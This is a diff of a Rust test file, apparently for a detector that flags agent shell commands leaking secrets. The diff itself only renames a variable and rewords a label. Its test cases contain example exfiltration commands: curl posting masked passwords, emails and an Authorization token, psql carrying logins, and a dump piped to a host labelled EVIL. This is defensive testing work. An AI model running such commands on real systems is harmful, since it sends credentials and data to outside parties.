@@ -240,7 +240,7 @@ fn a_masked_value_in_what_is_sent() {
             vec![ran(curl("-d p=<secret:password:00000001>"))],
             Some((Severity::Medium, 900, 0)),
         ),
-        ("that is no secret", vec![ran(curl("-d m=<secret:email:00000001>"))], None),
+        ("that is not a secret", vec![ran(curl("-d m=<secret:email:00000001>"))], None),
         (
             "in a header that signs in",
             vec![ran(curl(&format!("-H Authorization:{TOKEN} -d @x")))],
@@ -313,13 +313,13 @@ fn databases_are_signed_in_to() {
         let loaded = [ran(reads()), ran(changes("psql \"$URL\" -f seed.sql"))];
         assert_eq!(brief(last(loaded, &[])), None, "with a variable");
     }
-    let told = Some((Severity::Critical, 900, 0));
+    let expected = Some((Severity::Critical, 900, 0));
     let data = format!("psql app -c \"insert into t values ('{login}')\"");
-    assert_eq!(brief(last([seen(), ran(changes(&data))], &[])), told, "among the data");
+    assert_eq!(brief(last([seen(), ran(changes(&data))], &[])), expected, "among the data");
     let both = changes(&format!("psql {login}"))
         .does(EffectKind::SecretRead, ENV)
         .form("secret-egress", 300);
-    assert_eq!(brief(last([ran(both)], &[])), told, "followed into the statements");
+    assert_eq!(brief(last([ran(both)], &[])), expected, "followed into the statements");
     let beside = changes("psql app -f x; curl -d @x y").affects(EffectKind::Send, EVIL).by(1);
     let near = Some((Severity::Medium, 600, 0));
     assert_eq!(brief(last([ran(reads()), ran(beside)], &[])), near, "sent elsewhere");
